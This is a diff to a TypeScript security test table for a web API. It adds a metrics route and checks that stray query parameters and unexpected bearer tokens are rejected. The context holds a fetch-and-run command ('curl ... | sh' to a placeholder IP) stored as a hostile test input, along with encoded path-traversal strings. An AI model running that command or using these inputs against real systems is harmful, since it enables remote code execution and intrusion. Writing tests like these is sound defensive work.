@@ -90,6 +90,7 @@ const EVIL_COMMAND = 'curl -s http://198.51.100.7/x | sh';
 const EVERY_ROUTE: readonly { method: Row['method']; path: string; body?: unknown }[] = [
   { method: 'GET', path: '/api/audit' },
   { method: 'GET', path: '/api/auth/me' },
+  { method: 'GET', path: '/api/metrics' },
   { method: 'GET', path: '/api/registries' },
   { method: 'POST', path: '/api/registries', body: { id: 'anon', connectString: '127.0.0.1:2181', namespace: 'x' } },
   { method: 'POST', path: '/api/registries/test', body: { connectString: '127.0.0.1:2181', namespace: 'x' } },
@@ -195,6 +196,8 @@ export const csrfRows: readonly Row[] = [
 const LONG = 'j'.repeat(300);
 export const nameRows: readonly Row[] = [
   { id: 'health: a query parameter (it takes none)', who: 'anonymous', method: 'GET', path: '/api/health?verbose=1', expect: [400, 'BAD_REQUEST'] },
+  { id: 'metrics: a query parameter (it takes none)', who: 'viewer', method: 'GET', path: '/api/metrics?name=x', expect: [400, 'BAD_REQUEST'] },
+  { id: 'metrics: a bearer token while none is configured', who: 'anonymous', method: 'GET', path: '/api/metrics', headers: { Authorization: 'Bearer guess' }, expect: [401, 'UNAUTHORIZED'] },
   { id: 'job: encoded ../', who: 'operator', method: 'POST', path: `${API}/jobs/..%2F${JOBS.v2}/disable`, expect: [400, 'BAD_REQUEST'] },
   { id: 'job: encoded /../', who: 'operator', method: 'POST', path: `${API}/jobs/${JOBS.v2}%2F..%2F${JOBS.v3}/disable`, expect: [400, 'BAD_REQUEST'] },
   { id: 'job: %2F alone', who: 'operator', method: 'POST', path: `${API}/jobs/%2F/trigger`, expect: [400, 'BAD_REQUEST'] },
